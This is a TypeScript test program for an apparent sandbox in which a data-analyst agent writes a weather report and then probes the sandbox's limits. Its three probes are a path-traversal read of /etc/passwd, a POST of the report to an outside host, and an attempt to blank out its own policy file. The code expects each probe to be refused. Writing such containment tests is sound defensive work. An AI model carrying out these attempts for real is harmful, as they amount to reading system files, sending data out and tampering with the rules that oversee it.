/** A data analyst in user space: reads a data set, writes a report, announces it, and tries what it must not do. */
import { fetch, fs, tools } from 'gatehouse/guest'
import { writeReport } from './report.ts'
import { parseDays } from './weather.ts'

export default async function analyse(file: string) {
  const days = parseDays(await fs.read(`/workspace/${file}`))
  const report = writeReport(days)
  await fs.write('/mem/working/report.md', report)
  const receipt = await tools.announce({ title: 'Seattle weather', lines: report.split('\n').length })
  const refusals = [
    await refusal(() => fs.read('/workspace/../etc/passwd')),
    await refusal(() => fetch('https://example.com/upload', { method: 'POST', body: report })),
    await refusal(() => fs.write('/policy/data-analyst.yaml', 'rules: []')),
  ]
  return { days: days.length, receipt, refusals }
}

/** What the kernel says to an attempt; an attempt that succeeds is an alarm. */
async function refusal(attempt: () => Promise<unknown>): Promise<string> {
  try {
    await attempt()
  } catch (error) {
    return error instanceof Error ? error.message : String(error)
  }
  throw new Error('the kernel let it pass')
}
